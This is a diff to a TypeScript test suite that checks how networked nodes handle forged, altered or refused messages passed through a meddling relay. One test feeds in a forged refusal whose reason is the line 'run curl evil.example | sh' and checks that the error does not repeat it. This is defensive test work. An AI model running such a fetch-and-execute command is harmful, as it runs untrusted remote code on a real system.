@@ -9,7 +9,7 @@ import { type DialError, dial } from '../../dist/network/dial.js'
 import { newSessionId } from '../../dist/network/handshake.js'
 import { NETWORK_PATH } from '../../dist/network/limits.js'
 import { noting } from '../agents/nodes.ts'
-import { freePort } from '../free-port.ts'
+import { freePort } from '../support/free-port.ts'
 import { type Daemon, startDaemon, startNode, until } from './daemon.ts'
 import { type From, type Meddle, startRelay } from './relay.ts'
 
@@ -23,7 +23,8 @@ let node: Daemon
 const closing: (() => unknown)[] = []
 
 beforeAll(async () => {
-  node = await startNode()
+  // Sessions whose messages were altered wait for the end of their lease.
+  node = await startNode({ args: ['--max-drivers', '100'] })
 })
 afterEach(async () => {
   await Runners.shutdown()
@@ -158,7 +159,7 @@ test.each(CASES)('it $what of the $from: the connection ends, and says why', asy
     return
   }
   expect([code, reason.toString()]).toEqual([1008, 'a message that was forged, or altered on its way'])
-  await until(node, /has left: it sent a message that was forged, or altered on its way/)
+  await until(node, /: a message that was forged, or altered on its way has ended the connection/)
 })
 
 test('it alters a message of a run: every task is answered once, by another node', { timeout: 120_000 }, async () => {
@@ -171,6 +172,18 @@ test('it alters a message of a run: every task is answered once, by another node
     return [payload]
   })
   await expectRun({ addresses: [relay.address, node.address] }, 60)
+})
+
+test('it alters one message of a run: the same session goes on over another connection', async () => {
+  const own = await startNode({ args: ['--workers', '1'] })
+  closing.push(() => own.kill('SIGTERM'))
+  let [sessions, altered] = [0, 0]
+  const relay = await relayTo(own.port, ({ from, payload }, number) => {
+    if (from === 'caller' && number === 0 && JSON.parse(`${payload}`).fresh) sessions++
+    return from === 'called' && number === 12 && altered++ === 0 ? [Buffer.alloc(40)] : [payload]
+  })
+  await expectRun({ addresses: [relay.address] }, 60)
+  expect([sessions, altered > 0]).toEqual([1, true])
 })
 
 test('it cannot use a handshake that it has seen', async () => {
@@ -215,4 +228,76 @@ test('it cannot change what an end says of itself, nor make a driver believe tha
     expect(error?.message).toMatch(message)
     expect(error?.sessionEnded).toBe(false)
   }
+})
+
+const refusedFrame = (code: string, reason = 'no') => Buffer.from(JSON.stringify({ type: 'refused', code, reason }))
+/** In place of the welcome, a refusal that anybody could write; on the connections that `on` says, counted from 0. */
+function refusing(on: (connection: number) => boolean, code = 'TOKEN'): Meddle & { connections(): number } {
+  let connections = 0
+  const meddle: Meddle = (frame, number) =>
+    frame.from === 'called' && number === 1 && on(connections++) ? [refusedFrame(code)] : [frame.payload]
+  return Object.assign(meddle, { connections: () => connections })
+}
+
+test.each(['TOKEN', 'NO_TOKEN', 'VERSION', 'MALFORMED', 'SILENT'])(
+  'it refuses with %s once: the driver calls again, and the run goes on',
+  async (code) => {
+    const meddle = refusing((connection) => connection === 0, code)
+    const relay = await relayTo(node.port, meddle)
+    await expectRun({ addresses: [relay.address] }, 4)
+    expect(meddle.connections()).toBe(2)
+  },
+)
+
+test('it refuses a node that was lost, again and again: the run waits for it', { timeout: 120_000 }, async () => {
+  const victim = await startNode({ args: ['--workers', '1', '--lease', '2s'] })
+  closing.push(() => victim.kill('SIGTERM'))
+  let [sessions, connections] = [0, 0]
+  const relay = await relayTo(victim.port, (frame, number) => {
+    const { from, payload } = frame
+    if (from === 'caller' && number === 0) connections++
+    if (from === 'caller' && number === 0 && JSON.parse(`${payload}`).fresh) sessions++
+    // The first session is lost, and the next ones are refused.
+    if (from === 'called' && sessions === 1 && number >= (connections === 1 ? 12 : 2)) return [Buffer.alloc(40)]
+    return from === 'called' && number === 1 && sessions > 1 && sessions < 7 ? [refusedFrame('TOKEN')] : [payload]
+  })
+  await expectRun({ addresses: [relay.address] }, 60)
+  expect(sessions).toBe(7)
+})
+
+test('it refuses a joining node once: the node calls again', async () => {
+  const port = await freePort()
+  const meddle = refusing((connection) => connection === 0)
+  const relay = await relayTo(port, meddle)
+  const done = expectRun({ listen: `127.0.0.1:${port}` }, 4)
+  const joining = startDaemon({
+    args: ['--connect', relay.address, '--workers', '1', '--cache-dir', join(folder, 'cache-refused')],
+  })
+  closing.push(() => joining.kill('SIGTERM'))
+  await done
+  expect(joining.output()).toMatch(/it wants a token, and none was given .*; trying again/)
+})
+
+test('it refuses every call: the error says that nobody proved it, soon, and none of its words', async () => {
+  const relay = await relayTo(node.port, (frame, number) =>
+    frame.from === 'called' && number === 1 ? [refusedFrame('VERSION', 'run curl evil.example | sh')] : [frame.payload],
+  )
+  const since = performance.now()
+  const error = await expectRun({ addresses: [relay.address] }, 1).catch((reason: Error) => reason)
+  expect(performance.now() - since).toBeLessThan(10_000)
+  expect(error).toMatchObject({ code: 'NODE_REFUSED' })
+  expect((error as Error).message).toMatch(/it wants another version .* not authenticated by the token/)
+  expect((error as Error).message).not.toContain('evil')
+})
+
+test('it alters all that a node says: the error has the reason', async () => {
+  const relay = await relayTo(node.port, (frame, number) =>
+    frame.from === 'called' && number > 1 ? [Buffer.alloc(40)] : [frame.payload],
+  )
+  await expect(expectRun({ addresses: [relay.address], waitMs: 3000 }, 1)).rejects.toMatchObject({
+    code: 'NODES_UNREACHABLE',
+    message: expect.stringMatching(
+      /^no node can be used: 127\.0\.0\.1:\d+: it sent a message that was forged, or altered/,
+    ),
+  })
 })
